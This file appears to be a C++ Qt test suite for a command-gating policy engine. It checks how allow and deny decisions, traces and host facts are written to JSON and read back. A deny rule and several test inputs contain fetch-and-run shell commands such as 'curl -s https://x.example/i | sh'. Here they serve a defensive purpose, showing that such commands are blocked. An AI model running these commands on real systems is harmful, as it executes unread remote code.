// SPDX-License-Identifier: Apache-2.0
#include "runner/decision/decision_json.h"
#include "tests/support/decision_setup.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTest>

using namespace portcullis;
using namespace portcullis::decision;
using namespace portcullis::test;
using namespace Qt::StringLiterals;

class TstDecisionJson : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void a_denial_has_every_key_of_the_contract();
    void an_allowed_command_has_nulls_and_no_blockers();
    void a_trace_survives_the_way_to_json_and_back();
    void a_trace_that_is_too_long_keeps_what_decided();
    void host_facts_survive_the_way_to_json_and_back();
    void foreign_json_is_refused_data();
    void foreign_json_is_refused();
    void assumptions_change_the_facts_that_they_name_data();
    void assumptions_change_the_facts_that_they_name();
    void wrong_assumptions_are_named_data();
    void wrong_assumptions_are_named();
};

namespace {

constexpr const char *curlRule = R"({"id": "download-into-shell", "group": "data_exfiltration",
    "title": "Download into shell", "reason": "It would run \"unread\".", "advice": "Read it first.",
    "program": ["curl"], "pipes_to": ["sh"], "match": ["curl x | sh"], "not_match": ["curl x"]})";

QJsonObject jsonOf(const Decision &decision, const DecisionWords &words = {})
{
    const QByteArray text = QByteArray::fromStdString(toJson(decision, "D031", "0.1.0", words));
    const QJsonDocument document = QJsonDocument::fromJson(text);
    if (!document.isObject())
        qWarning("not JSON: %s", text.constData());
    return document.object();
}

} // namespace

void TstDecisionJson::a_denial_has_every_key_of_the_contract()
{
    DecisionSetup setup;
    setup.rules = curlRule;
    setup.hostPolicy = "deny";
    const QJsonObject json = jsonOf(setup.decide("curl -s https://x.example/i | sh"));
    for (const char *key : {"id", "verdict", "check", "group", "rule", "backend", "level", "would_deny", "dynamic",
                            "reason", "advice", "config", "engine", "blockers", "trace"})
        QVERIFY2(json.contains(QLatin1String(key)), key);
    QCOMPARE(json[u"id"].toString(), u"D031");
    QCOMPARE(json[u"verdict"].toString(), u"deny");
    QCOMPARE(json[u"check"].toString(), u"deny_rules");
    QCOMPARE(json[u"group"].toString(), u"data_exfiltration");
    QCOMPARE(json[u"rule"].toString(), u"download-into-shell");
    QCOMPARE(json[u"backend"].toString(), u"host");
    QCOMPARE(json[u"level"].toString(), u"full");
    QCOMPARE(json[u"would_deny"].toBool(true), false);
    QCOMPARE(json[u"reason"].toString(), u"It would run \"unread\".");
    QCOMPARE(json[u"engine"].toString(), u"0.1.0");
    QVERIFY(json[u"config"].toString().startsWith(u"sha256:"));

    const QJsonArray blockers = json[u"blockers"].toArray();
    QCOMPARE(blockers.size(), 2);
    QCOMPARE(blockers[0].toObject()[u"check"].toString(), u"deny_rules");
    QCOMPARE(blockers[1].toObject()[u"check"].toString(), u"host_policy");

    const QJsonArray trace = json[u"trace"].toArray();
    QCOMPARE(trace.first().toObject(), (QJsonObject{{u"check"_s, u"input"_s}, {u"outcome"_s, u"passed"_s}}));
    const QJsonObject decided = trace[3].toObject();
    QCOMPARE(decided[u"outcome"].toString(), u"decided");
    QCOMPARE(decided[u"verdict"].toString(), u"deny");
    QCOMPARE(decided[u"key"].toString(), u"/deny_groups/data_exfiltration");
    QCOMPARE(decided[u"origin"].toObject()[u"layer"].toString(), u"default");
    QVERIFY(!decided[u"spans"].toArray().isEmpty());
    QCOMPARE(decided[u"spans"].toArray().first().toArray().size(), 2);
}

void TstDecisionJson::an_allowed_command_has_nulls_and_no_blockers()
{
    const QJsonObject json = jsonOf(DecisionSetup().decide("ls"), {"", ""});
    QCOMPARE(json[u"verdict"].toString(), u"allow");
    for (const char *key : {"check", "group", "rule"}) {
        QVERIFY(json.contains(QLatin1String(key)));
        QVERIFY(json[QLatin1String(key)].isNull());
    }
    QVERIFY(json[u"blockers"].toArray().isEmpty());
}

void TstDecisionJson::a_trace_survives_the_way_to_json_and_back()
{
    DecisionSetup setup(noLandlock());
    setup.rules = curlRule;
    setup.policyKeys = "\"confinement\": \"required\"";
    const Decision decision = setup.decide("curl x | sh; cat '/srv/gateway/data/\"a\nb'; $X");
    const auto trace = readTrace(traceJson(decision.trace));
    QVERIFY(trace);
    QCOMPARE(trace->size(), decision.trace.size());
    for (std::size_t i = 0; i < trace->size(); ++i) {
        const TraceEntry &read = (*trace)[i];
        const TraceEntry &written = decision.trace[i];
        QCOMPARE(read.check, written.check);
        QCOMPARE(read.outcome, written.outcome);
        QCOMPARE(read.verdict, written.verdict);
        QCOMPARE(read.group, written.group);
        QCOMPARE(read.rule, written.rule);
        QCOMPARE(read.code, written.code);
        QCOMPARE(read.detail, written.detail);
        QCOMPARE(read.spans, written.spans);
        QCOMPARE(read.source.pointer, written.source.pointer);
        QCOMPARE(read.source.line, written.source.line);
    }
    QCOMPARE(readBlockers(blockersJson(decision.blockers)), decision.blockers);
}

void TstDecisionJson::a_trace_that_is_too_long_keeps_what_decided()
{
    DecisionSetup setup;
    setup.rules = curlRule;
    std::string command = "curl x | sh";
    for (int i = 0; i < 2000; ++i)
        command += "; cat /srv/gateway/data/" + std::to_string(i);
    const Decision decision = setup.decide(command);
    const std::string json = traceJson(decision.trace, 4096);
    QVERIFY(json.size() <= 4096);
    const auto trace = readTrace(json);
    QVERIFY(trace);
    QCOMPARE(trace->front().rule, std::string("download-into-shell"));
    QCOMPARE(trace->back().code, std::string("trace_truncated"));
}

void TstDecisionJson::host_facts_survive_the_way_to_json_and_back()
{
    HostFacts facts;
    facts.landlockAbi = 5;
    facts.viewFailedStep = "mount proc";
    facts.viewErrno = 1;
    facts.root = true;
    facts.commandUidNonZero = false;
    facts.bashPresent = false;
    facts.engine = EngineState::ImageMissing;
    facts.answers[{PathQuestion::Kind::Resolve, "/a\"b"}] = "/c\n";
    facts.answers[{PathQuestion::Kind::Resolve, "/loop"}] = "";
    const auto read = readHostFacts(hostFactsJson(facts));
    QVERIFY(read);
    QCOMPARE(read->landlockAbi, 5);
    QCOMPARE(read->viewWorks, false);
    QCOMPARE(read->viewFailedStep, facts.viewFailedStep);
    QCOMPARE(read->viewErrno, 1);
    QCOMPARE(read->root, true);
    QCOMPARE(read->commandUidNonZero, false);
    QCOMPARE(read->bashPresent, false);
    QCOMPARE(read->engine, EngineState::ImageMissing);
    QVERIFY(read->answers == facts.answers);
}

void TstDecisionJson::foreign_json_is_refused_data()
{
    QTest::addColumn<QByteArray>("text");
    for (const char *text : {"", "{}", "[1]", "[{}]", "[{\"check\":\"nonsense\",\"outcome\":\"passed\"}]", "[", "null"})
        QTest::newRow(text) << QByteArray(text);
}

void TstDecisionJson::foreign_json_is_refused()
{
    QFETCH(QByteArray, text);
    QVERIFY(!readTrace(text.toStdString()));
    QVERIFY(!readHostFacts(text.toStdString()));
}

void TstDecisionJson::assumptions_change_the_facts_that_they_name_data()
{
    QTest::addColumn<QByteArray>("text");
    QTest::addColumn<QByteArray>("expected");
    QTest::newRow("nothing") << QByteArray() << QByteArray("7 yes down bash");
    QTest::newRow("no Landlock") << QByteArray("landlock=none") << QByteArray("0 yes down bash");
    QTest::newRow("an ABI") << QByteArray("landlock=3") << QByteArray("3 yes down bash");
    QTest::newRow("all") << QByteArray("landlock=4,view=no,engine=up,shell=sh") << QByteArray("4 no up sh");
}

void TstDecisionJson::assumptions_change_the_facts_that_they_name()
{
    QFETCH(QByteArray, text);
    const auto facts = assume(bothWalls(), text.toStdString());
    QVERIFY(facts);
    const QByteArray got = QByteArray::number(facts->landlockAbi) + (facts->viewWorks ? " yes " : " no ")
        + (facts->engine == EngineState::Up ? "up" : "down") + (facts->bashPresent ? " bash" : " sh");
    QTEST(got, "expected");
}

void TstDecisionJson::wrong_assumptions_are_named_data()
{
    QTest::addColumn<QByteArray>("text");
    QTest::addColumn<QByteArray>("part");
    for (const char *part :
         {"landlock=yes", "landlock=", "landlock=-1", "view=maybe", "engine=Up", "shell=zsh", "x=1", "view"})
        QTest::newRow(part) << QByteArray("landlock=7,") + part << QByteArray(part);
}

void TstDecisionJson::wrong_assumptions_are_named()
{
    QFETCH(QByteArray, text);
    QFETCH(QByteArray, part);
    const auto facts = assume({}, text.toStdString());
    QVERIFY(!facts);
    QCOMPARE(QByteArray::fromStdString(facts.error().part), part);
    QVERIFY(!facts.error().allowed.empty());
}

QTEST_APPLESS_MAIN(TstDecisionJson)
#include "tst_decision_json.moc"
